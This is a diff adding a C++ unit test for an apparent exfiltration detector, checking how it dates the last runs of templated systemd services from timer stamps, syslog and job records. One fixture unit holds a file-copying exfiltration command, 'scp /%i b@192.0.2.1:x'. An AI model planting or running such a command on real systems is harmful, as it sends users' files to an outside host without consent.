@@ -110,6 +110,42 @@ TEST_CASE("registered: when each ran last") {
   CHECK(found[3].last_run_by == "unit's records");
 }
 
+TEST_CASE("registered: what tells of an instance tells of its template, or of its own entry") {
+  const auto image = std::make_shared<Image>(Files{
+      {"/etc/systemd/system/a@.service", "[Service]\nExecStart=/usr/bin/scp /%i b@192.0.2.1:x\n"},
+      {"/etc/systemd/system/a@.timer", "[Timer]\nOnCalendar=daily\nPersistent=true\n"},
+      {"/etc/systemd/system/a@y.service.d/1.conf", "[Service]\nUser=eve\n"},
+      {"/var/lib/systemd/timers/stamp-a@x.timer", ""},
+      {"/var/lib/systemd/timers/stamp-a@y.timer", ""},
+      {"/var/log/syslog",
+       "2026-12-02T03:00:00Z h systemd[1]: Starting a@x.service - Push...\n"
+       "2026-12-02T04:00:00Z h systemd[1]: Starting a@y.service - Push...\n"},
+  });
+  const Matcher matcher(collect(*image));
+  const auto ran = [&](const RunLogs& logs) {
+    auto found = find_registered(matcher.inventory(), *image, auexfil::test::rules().tools);
+    find_last_runs(found, matcher, *image, logs);
+    Lines told;
+    for (const Registered& one : found) {
+      told.push_back(one.artefact->unit + " " + std::to_string(one.last_run.value_or(0) / 1000));
+    }
+    return told;
+  };
+  CHECK(ran({}) == Lines{"a@.service 0", "a@y.service 0"});
+  const SystemLogs others({image, "/", true});
+  CHECK(ran({{}, 0, 0, &others, "h"}) == Lines{"a@.service 1796180400", "a@y.service 1796184000"});
+  coverage::SeenJob unit;
+  unit.kind = "unit";
+  unit.name = "a@x";
+  unit.starts = 1;
+  unit.last = 1796173400000;
+  const std::vector jobs{unit};
+  CHECK(ran({jobs, 0, 0, nullptr, {}}) == Lines{"a@.service 1796173400", "a@y.service 0"});
+  image->changed = {{"/var/lib/systemd/timers/stamp-a@x.timer", 11},
+                    {"/var/lib/systemd/timers/stamp-a@y.timer", 22}};
+  CHECK(ran({}) == Lines{"a@.service 11", "a@y.service 22"});
+}
+
 TEST_CASE("registered: what starters wrote to syslog tells when each ran last") {
   const auto image = std::make_shared<Image>(Files{
       {"/etc/debian_version", "12\n"},
